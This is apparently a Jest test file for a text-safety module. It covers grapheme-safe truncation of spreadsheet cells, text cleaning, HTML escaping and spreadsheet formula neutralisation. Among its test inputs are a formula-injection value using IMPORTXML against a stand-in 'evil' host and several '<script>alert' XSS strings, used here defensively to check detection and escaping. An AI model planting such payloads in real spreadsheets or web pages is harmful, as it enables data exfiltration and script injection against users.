import {
  CELL_LIMIT,
  cleanPlainText,
  escapeHtml,
  fitToCell,
  looksLikeFormula,
  neutralizeFormula,
  restoreFitted,
  safeCutIndex,
  truncateForSubject,
} from '../../src/domain/text-safety';
import { en, ru } from '../../src/locale/intake';

const MARKER = ru.continuedMarker;

describe('fitToCell', () => {
  test('text that fits is left alone', () => {
    expect(fitToCell('=IMPORTXML("http://evil","//a")')).toEqual({
      value: '=IMPORTXML("http://evil","//a")',
      overflow: '',
    });
    const exact = 'я'.repeat(CELL_LIMIT);
    expect(fitToCell(exact)).toEqual({ value: exact, overflow: '' });
  });

  test('a long text keeps its start, ends with the marker, and the rest is overflow', () => {
    const text = 'а'.repeat(60_000);
    const fitted = fitToCell(text);
    expect(fitted.value.length).toBe(CELL_LIMIT);
    expect(fitted.value.endsWith(MARKER)).toBe(true);
    expect(fitted.value.startsWith('а'.repeat(CELL_LIMIT - MARKER.length))).toBe(true);
    expect(fitted.overflow.length).toBe(60_000 - (CELL_LIMIT - MARKER.length));
    expect(restoreFitted(fitted)).toBe(text);
  });

  test('the marker is Russian by default and can be another language', () => {
    expect(MARKER).toMatch(/продолжение/);
    const fitted = fitToCell('x'.repeat(200), 100, en.continuedMarker);
    expect(fitted.value.endsWith(en.continuedMarker)).toBe(true);
    expect(fitted.value.length).toBeLessThanOrEqual(100);
    expect(restoreFitted(fitted, en.continuedMarker)).toBe('x'.repeat(200));
  });

  test('an emoji at the cut is never split', () => {
    const room = CELL_LIMIT - MARKER.length;
    // The emoji's high surrogate is the last unit that would fit.
    const text = `${'a'.repeat(room - 1)}😀${'b'.repeat(20_000)}`;
    const fitted = fitToCell(text);
    expect(fitted.value).toBe(`${'a'.repeat(room - 1)}${MARKER}`);
    expect(fitted.overflow.startsWith('😀')).toBe(true);
    expect(restoreFitted(fitted)).toBe(text);
    expect(fitted.value.length).toBeLessThanOrEqual(CELL_LIMIT);
  });

  test.each([
    ['a family joined by ZWJ', '👨‍👩‍👧'],
    ['a skin tone', '👍🏽'],
    ['a flag', '🇷🇺'],
    ['a combining accent', 'й'],
    ['a variation selector', '❤️'],
  ])('%s stays whole wherever the cut falls', (_name, cluster) => {
    const text = `${'x'.repeat(10)}${cluster}${'y'.repeat(200)}`;
    for (let at = 10; at <= 10 + cluster.length; at++) {
      const cut = safeCutIndex(text, at);
      expect([10, 10 + cluster.length]).toContain(cut);
      const fitted = fitToCell(text, at + MARKER.length, MARKER);
      expect(restoreFitted(fitted)).toBe(text);
    }
  });

  test('a run of flags is cut between flags, not inside one', () => {
    const flags = '🇷🇺🇷🇺🇷🇺';
    expect(safeCutIndex(flags, 6)).toBe(4);
    expect(safeCutIndex(flags, 4)).toBe(4);
  });

  test('a pathological run of combining marks still cuts, surrogate-safely', () => {
    const zalgo = `a${'\u0301'.repeat(100)}`;
    expect(safeCutIndex(zalgo, 50)).toBe(50);
  });

  test('a limit with no room for the marker is a programming error', () => {
    expect(() => fitToCell('x'.repeat(100), MARKER.length)).toThrow(RangeError);
  });
});

describe('cleanPlainText', () => {
  test('normalises line endings and trims trailing whitespace of lines and text', () => {
    expect(cleanPlainText('раз  \r\nдва\rтри\u2028четыре\t \n\n  ')).toBe('раз\nдва\nтри\nчетыре');
  });
  test('drops NUL and other control characters but keeps tab and newline', () => {
    expect(cleanPlainText('a\u0000b\u0007c\u001bd\u007fe\u0085f\u009fg\th\ni')).toBe('abcde\nfg\th\ni');
  });
  test('a lone half of a surrogate pair becomes the replacement character', () => {
    expect(cleanPlainText('x\uD83Dy\uDE00z😀')).toBe('x\uFFFDy\uFFFDz😀');
  });
  test.each([
    ['=IMPORTXML("http://evil","//a")'],
    ['+1+1'],
    ['-2'],
    ['@SUM(A1)'],
    ['<script>alert(1)</script>'],
    ['  ведущие пробелы остаются'],
    ['Иванов Ivan Петрович 👍 ОБ-2026-00042'],
    ['\u202Eобратный порядок'], // bidi control is a format character, not a control one
  ])('keeps %j as typed', (text) => {
    expect(cleanPlainText(text)).toBe(text);
  });
  test('a long run of spaces is cheap (no quadratic regex)', () => {
    const text = `${' '.repeat(200_000)}x${' '.repeat(200_000)}`;
    expect(cleanPlainText(text)).toBe(`${' '.repeat(200_000)}x`);
  });
});

describe('escapeHtml', () => {
  test('escapes & < > " \'', () => {
    expect(escapeHtml(`<script>alert("x" & 'y')</script>`)).toBe(
      '&lt;script&gt;alert(&quot;x&quot; &amp; &#39;y&#39;)&lt;/script&gt;',
    );
  });
  test('leaves other text alone, and escaping twice shows the first escape', () => {
    expect(escapeHtml('Привет 👋 =1+1')).toBe('Привет 👋 =1+1');
    expect(escapeHtml('&amp;')).toBe('&amp;amp;');
  });
});

describe('looksLikeFormula', () => {
  test.each([
    ['=IMPORTXML("http://evil","//a")', true],
    ['+1+1', true],
    ['-2', true],
    ['@SUM(A1)', true],
    ['  =1', true],
    ['\t+7 912', true],
    ['Иванов', false],
    ['a=1', false],
    ['', false],
    ['＝1', false], // a full-width sign is not a formula
  ])('%j → %s', (text, expected) => {
    expect(looksLikeFormula(text)).toBe(expected);
  });
  test('neutralizeFormula prefixes an apostrophe only where needed', () => {
    expect(neutralizeFormula('=1+1')).toBe("'=1+1");
    expect(neutralizeFormula('Иванов')).toBe('Иванов');
  });
});

describe('truncateForSubject', () => {
  test('one line, whitespace collapsed, an ellipsis when cut', () => {
    expect(truncateForSubject('  Не  могу\nвойти  ', 50)).toBe('Не могу войти');
    expect(truncateForSubject('Не могу войти в дневник', 10)).toBe('Не могу…');
    expect(truncateForSubject('Не могу войти в дневник', 10).length).toBeLessThanOrEqual(10);
  });
  test('never splits an emoji', () => {
    expect(truncateForSubject('ab😀cd', 4)).toBe('ab…');
  });
});
